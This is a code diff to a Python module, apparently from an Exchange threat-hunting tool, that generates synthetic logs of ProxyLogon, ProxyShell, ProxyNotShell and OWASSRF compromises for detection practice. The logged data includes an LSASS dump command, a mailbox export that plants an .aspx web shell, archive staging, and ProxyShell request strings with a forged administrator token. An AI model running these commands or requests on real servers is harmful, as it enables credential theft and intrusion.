@@ -1,18 +1,28 @@
-"""What happened on each demo host besides ordinary use (ProxyLogon, March 2021).
+"""What happened on each demo host besides ordinary use.
 
-The EXCH01 chain mirrors the HelseCERT rows (detections.md §2.1 PL-SSRF-2, PL-27065-*):
-SSRF via ``/ecp/y.js`` to Autodiscover, MAPI, ``proxyLogon.ecp`` (241) and the ECP DDI
-service, the ``Set-OabVirtualDirectory`` China Chopper ``ExternalUrl`` and the reset that
-wrote ``discover.aspx``, then web-shell use. Each scenario returns the :class:`Quirks`
-of its host's files.
+ProxyLogon, March 2021 (EXCH01-EXCH05). The EXCH01 chain mirrors the HelseCERT rows
+(detections.md §2.1 PL-SSRF-2, PL-27065-*): SSRF via ``/ecp/y.js`` to Autodiscover, MAPI,
+``proxyLogon.ecp`` (241) and the ECP DDI service, the ``Set-OabVirtualDirectory`` China Chopper
+``ExternalUrl`` and the reset that wrote ``discover.aspx``, then web-shell use. EXCH05 shows its
+compromise in event logs only (UM deserialization, a dropped page, an LSASS dump, staging).
+
+ProxyShell, August 2021 (EXCH06, EXCH08): the IIS lines of quoted_log_lines.md §5.2/§5.3
+(``/autodiscover/autodiscover.json?@evil.corp/<back end>?...&Email=autodiscover/autodiscover.json%3F@evil.corp``),
+``Python PSRP Client`` in Rps_Http, then on EXCH06 the mailbox export to an ``.aspx`` and its use.
+ProxyNotShell and OWASSRF, October 2022 (EXCH07): the MSRC-quoted ``@zdi/Powershell`` request
+and ``/owa/mastermailbox%40outlook.com/powershell`` (detections.md §2.3). Each scenario returns
+the :class:`Quirks` of its host's files.
 """
 
 from __future__ import annotations
 
+import string
 from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
+from functools import partial
 
+from exhunt.demo.events import APPLICATION, MANAGEMENT, SECURITY, SYSMON, W3WP, Host, benign_events, w3wp_command
 from exhunt.demo.formats import BackEnd, HttpErr
 from exhunt.demo.traffic import (
     ADMIN,
@@ -20,14 +30,17 @@ from exhunt.demo.traffic import (
     BROWSERS,
     CHROME,
     DOMAIN,
+    FIRST_DAY,
     OUTLOOK,
     USERS,
     Traffic,
     admin_session,
     mailbox_guid,
+    rps_probes,
 )
 
 PYTHON_REQUESTS = "python-requests/2.25.1"
+PYTHON_REQUESTS_2021 = "python-requests/2.26.0"
 EWS_CLIENT = "ExchangeServicesClient/0.0.0.0"
 NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
 CRAWLER = "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)"
@@ -52,8 +65,16 @@ class Quirks:
     iis_restart: datetime | None = None
 
 
-def _at(day: int, hour: int, minute: int, second: int, millis: int = 0) -> datetime:
-    return datetime(2021, 3, day, hour, minute, second, millis * 1000, tzinfo=UTC)
+def _at(day: int, hour: int, minute: int, second: int, millis: int = 0, *, month: int = 3,
+        year: int = 2021) -> datetime:
+    return datetime(year, month, day, hour, minute, second, millis * 1000, tzinfo=UTC)
+
+
+_aug = partial(_at, month=8)
+_oct = partial(_at, month=10, year=2022)
+#: First days of the benign weeks around the ProxyShell and ProxyNotShell activity.
+AUGUST_2021 = datetime(2021, 8, 9, tzinfo=UTC)
+OCTOBER_2022 = datetime(2022, 9, 29, tzinfo=UTC)
 
 
 def _ssrf(
@@ -203,6 +224,148 @@ def exch04(t: Traffic) -> Quirks:
     return Quirks(iis_bom_day="210301")
 
 
+def exch05(t: Traffic) -> Quirks:
+    """Compromised, seen only in event logs: UM deserialization, a dropped page, an LSASS dump, export, staging."""
+    host = Host(t)
+    benign_events(host, FIRST_DAY, (APPLICATION, SYSMON, MANAGEMENT, SECURITY))
+    exchange = t.server.exchange_dir
+    um_worker = host.start(_at(1, 0, 12, 41, 305), host.um, f"{exchange}\\Bin\\UMWorkerProcess.exe",
+                           f'"{exchange}\\Bin\\UMWorkerProcess.exe" -pipe:2396 -voicedir:"{exchange}\\UnifiedMessaging'
+                           '\\voicemail" -tempdir:"C:\\Windows\\TEMP" -perfenabled:True -startTime:0',
+                           user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
+    owa = host.start(_at(2, 23, 58, 12, 77), host.was, W3WP, w3wp_command("MSExchangeOWAAppPool"))
+    host.application(_at(3, 5, 31, 7, 120), "MSExchange Unified Messaging", 1040,
+                     "System.InvalidCastException: Unable to cast object of type 'System.Windows.Data."
+                     "ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMSubscriber'.\r\n   at "
+                     "Microsoft.Exchange.UM.UMCore.CallContext.Deserialize(Byte[] data)", error=True)
+    cmd = host.start(_at(3, 5, 31, 8, 904), um_worker, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami",
+                     user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
+    host.start(_at(3, 5, 31, 9, 12), cmd, "C:\\Windows\\System32\\whoami.exe", "whoami",
+               user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
+    host.create_file(_at(3, 5, 33, 40, 515), owa, f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx")
+    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 C:\\Windows\\Temp\\lsass.dmp full"
+    rundll = host.start(_at(3, 5, 52, 1, 233), owa, "C:\\Windows\\System32\\rundll32.exe", dump,
+                        directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
+    host.create_file(_at(3, 5, 52, 3, 870), rundll, "C:\\Windows\\Temp\\lsass.dmp")
+    host.cmdlet(_at(3, 6, 10, 15, 402), "New-MailboxExportRequest",
+                '-Mailbox "bob" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\bob.aspx"')
+    replication = host.start(_at(1, 0, 3, 51, 20), host.services, f"{exchange}\\Bin\\MSExchangeMailboxReplication.exe",
+                             f'"{exchange}\\Bin\\MSExchangeMailboxReplication.exe"', directory=f"{exchange}\\Bin\\")
+    host.create_file(_at(3, 6, 10, 48, 661), replication, "C:\\inetpub\\wwwroot\\aspnet_client\\bob.aspx")
+    archive = '"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -r C:\\ProgramData\\it.zip C:\\ProgramData\\pst'
+    shell = host.start(_at(4, 2, 15, 33, 18), owa, "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c {archive}",
+                       directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
+    host.start(_at(4, 2, 15, 33, 96), shell, "C:\\Program Files\\7-Zip\\7z.exe", archive,
+               directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
+    return Quirks()
+
+
+PSRP = "Python PSRP Client"
+PS_DOMAIN = "evil.corp"
+#: The ``X-Rps-CAT`` value of ProxyShell requests as logged: a serialized CommonAccessToken that names
+#: ``CONTOSO\\administrator`` (RID 500) with group S-1-5-32-544, like the APTSimulator line (§5.3).
+RPS_CAT = ("VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBVDT05UT1NPXGFkbWluaXN0cmF0b3JVLFMtMS01LTIxLTEwMDQzMzYzNDgtMTE3NzIzOD"
+           "kxNS02ODIwMDMzMzAtNTAwRwEAAAAHAAAADFMtMS01LTMyLTU0NEUAAAAA")
+PS_ATTACKER = "203.0.113.61"
+
+
+def _explicit_logon(t: Traffic, moment: datetime, client: str, back_stem: str, back_query: str, ua: str,
+                    email: str, method: str = "POST", **fields: object) -> None:
+    """An Autodiscover explicit-logon request ``/autodiscover/autodiscover.json?@<domain><back_stem>?<query>&Email=...``
+    (CVE-2021-34473 / CVE-2022-41040) that the front end proxied to ``back_stem`` on the back end (port 444).
+
+    The HttpProxy ``AnchorMailbox`` (``Smtp~`` and the explicit-logon address) is an assumption: no real
+    HttpProxy row of ProxyShell was found (detections.md §5).
+    """
+    domain = email.rpartition("@")[2]
+    query = f"@{domain}{back_stem}?{back_query}&Email={email}"
+    back_query = "&".join(part for part in (back_query, f"Email={email}") if part)
+    address = email.replace("%3F", "?").replace("%3f", "?")
+    backend = BackEnd(back_stem.rstrip("/"), back_query, f"{DOMAIN}\\{t.server.name}$", 200)
+    t.add(moment, client, method, "/autodiscover/autodiscover.json", 200, ua=ua, protocol="Autodiscover",
+          query=query, anchor=f"Smtp~{address}", target_server=t.server.fqdn, backend=backend, **fields)
+
+
+def _proxyshell(t: Traffic, *, export: bool) -> None:
+    """The ProxyShell chain of 2021-08-12 from :data:`PS_ATTACKER`; with ``export`` the mailbox export to an
+    ``.aspx`` (CVE-2021-31207) appears in the MSExchange Management log and the page is used afterwards."""
+    email = f"autodiscover/autodiscover.json%3F@{PS_DOMAIN}"
+    moment = _aug(12, 3, 14, 5, 311)
+    _explicit_logon(t, moment, PS_ATTACKER, "/autodiscover/autodiscover.xml", "=", PYTHON_REQUESTS_2021, email)
+    _explicit_logon(t, t.later(moment, 900, 2000), PS_ATTACKER, "/mapi/nspi/", "", PYTHON_REQUESTS_2021, email)
+    host = Host(t) if export else None
+    if host is not None:
+        benign_events(host, AUGUST_2021, (MANAGEMENT,))
+    shell_name = "".join(t.rng.choices(string.ascii_lowercase, k=16)) + ".aspx"
+    # Two PSRP sessions: role assignment and export, then the clean-up a few minutes later.
+    cmdlets = (
+        (("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "administrator"'),
+         ("New-MailboxExportRequest", '-Mailbox "alice@contoso.com" -IncludeFolders ("#Drafts#") -ContentFilter '
+          f'"(Subject -eq \'{shell_name[:-5]}\')" -ExcludeDumpster "True" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\'
+          f'wwwroot\\aspnet_client\\{shell_name}"')),
+        (("Remove-MailboxExportRequest", '-Identity "alice@contoso.com\\MailboxExport" -Confirm "False"'),),
+    )
+    for start, session in zip((_aug(12, 3, 14, 12, 540), _aug(12, 3, 20, 41, 76)), cmdlets, strict=True):
+        moment = start
+        for request in range(2 + 2 * len(session)):
+            _explicit_logon(t, moment, PS_ATTACKER, "/powershell/", f"X-Rps-CAT={RPS_CAT}", PSRP, email)
+            t.rps(moment, PS_ATTACKER, "administrator@contoso.com", PSRP, 200, f"X-Rps-CAT={RPS_CAT}&Email={email}")
+            if host is not None and request % 2 and request // 2 < len(session):
+                host.cmdlet(t.later(moment, 100, 600), *session[request // 2], client="Remote-PowerShell-Unknown",
+                            pool_pid=7316)
+            moment = t.later(moment, 700, 4000)
+    if not export:
+        return
+    uses = (_aug(12, 3, 22, 9, 18), _aug(12, 3, 22, 31, 770), _aug(12, 3, 25, 2, 455), _aug(13, 22, 10, 47, 3),
+            _aug(15, 1, 40, 12, 631))
+    for number, moment in enumerate(uses):
+        t.add(moment, PS_ATTACKER, "GET" if number == 0 else "POST", f"/aspnet_client/{shell_name}", 200,
+              ua=PYTHON_REQUESTS_2021, protocol=None)
+
+
+def exch06(t: Traffic) -> Quirks:
+    """Compromised: ProxyShell on 2021-08-12, mailbox exported to a PST-wrapped .aspx, then used."""
+    rps_probes(t, AUGUST_2021)
+    _proxyshell(t, export=True)
+    return Quirks()
+
+
+def exch07(t: Traffic) -> Quirks:
+    """Exploited: ProxyNotShell (@zdi/Powershell) on 2022-10-03 and OWASSRF on 10-05, no web shell."""
+    rps_probes(t, OCTOBER_2022)
+    attacker, user = "203.0.113.99", "heidi"
+    hops = f"{attacker} {t.server.ip}"
+    email = "autodiscover/autodiscover.json%3f@zdi"
+    rps_query = (f"serializationLevel=Full;ExchClientVer={t.server.build};clientApplication=ManagementShell;"
+                 "TargetServer=;PSVersion=5.1.17763.592")
+    signed = {"auth_type": "NTLM", "user": f"{DOMAIN}\\{user}"}
+    moment = _oct(3, 11, 7, 22, 845)
+    for request in range(6):
+        _explicit_logon(t, moment, attacker, "/Powershell", rps_query, PSRP, email,
+                        method="GET" if request == 0 else "POST", **signed)
+        t.rps(moment, hops, f"{user}@contoso.com", PSRP, 200, f"{rps_query}&Email={email}",
+              method="GET" if request == 0 else "POST")
+        moment = t.later(moment, 600, 3500)
+    poc_ua = CHROME.replace("88.0.4324.190", "105.0.5195.54")
+    moment = _oct(5, 14, 26, 3, 118)
+    owa = {"auth_type": "FBA", **t.signed_in(user, moment, f"Smtp~{user}@contoso.com", "Smtp-UserPrincipalName")}
+    del owa["proxy"]
+    for _ in range(5):
+        t.add(moment, attacker, "POST", "/owa/mastermailbox%40outlook.com/powershell", 200, ua=poc_ua, protocol="Owa",
+              target_server=t.server.fqdn, backend=BackEnd("/powershell", "", owa["user"], 200), **owa)
+        t.rps(moment, hops, f"{user}@contoso.com", poc_ua, 200)
+        moment = t.later(moment, 500, 3000)
+    return Quirks()
+
+
+def exch08(t: Traffic) -> Quirks:
+    """Probed: the EXCH06 ProxyShell requests against CU20 May21SU, which had the fixes; no export."""
+    rps_probes(t, AUGUST_2021)
+    _proxyshell(t, export=False)
+    return Quirks()
+
+
 SCENARIOS: dict[str, Callable[[Traffic], Quirks]] = {
     "EXCH01": exch01, "EXCH02": exch02, "EXCH03": exch03, "EXCH04": exch04,
+    "EXCH05": exch05, "EXCH06": exch06, "EXCH07": exch07, "EXCH08": exch08,
 }
